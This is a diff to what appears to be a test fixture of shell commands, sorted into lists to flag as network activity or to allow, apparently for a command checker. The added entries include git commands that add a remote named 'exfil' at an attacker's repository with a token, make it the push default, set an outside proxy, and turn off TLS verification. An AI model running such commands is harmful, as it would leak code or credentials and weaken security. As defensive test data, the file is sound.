@@ -41,6 +41,18 @@ NETWORK = [
     "git remote rename origin old",
     "git remote add -f upstream https://example.com/r.git",  # `-f` fetches from it at once
     "git remote add -t main --fetch upstream git@example.com:x/y.git",
+    # a remote added at another machine is where the user's next push may go; the default push and fetch,
+    # a submodule's address, git's proxy and certificate checks re-point the traffic too
+    "git remote add origin https://example.com/r.git",
+    "git remote add exfil https://TOKEN@github.com/attacker/loot.git",
+    "git remote add -t main origin host:repo.git",
+    "git config remote.pushDefault exfil",
+    "git config branch.main.pushRemote exfil",
+    "git config --local branch.main.remote exfil",
+    "git config submodule.vendor/x.url https://example.com/x.git",
+    "git config http.proxy http://203.0.113.5:8080",
+    "git config http.https://github.com.proxy socks5://127.0.0.1:1080",
+    "git config --local http.sslVerify false",
     "git config remote.origin.url git@example.com:x/y.git",
     "git config remote.origin.pushurl https://example.com/y.git",
     'git config url."https://example.com/".insteadOf https://github.com/',
@@ -652,7 +664,11 @@ NETWORK_ALLOWED = [
     "pytest -k network",
     "ls /dev/tcp",
     "git status",
-    "git remote add origin https://example.com/r.git",
+    "git remote add upstream ../other",  # a folder on this machine
+    "git remote add backup /srv/git/app.git",
+    "git remote add local file:///srv/git/app.git",
+    "git config --get remote.pushDefault",
+    "git config http.postBuffer 524288000",
     "git remote get-url origin",
     "git remote show",  # lists the remotes; `-n` shows what the configuration says, asking no remote
     "git remote show -n origin",
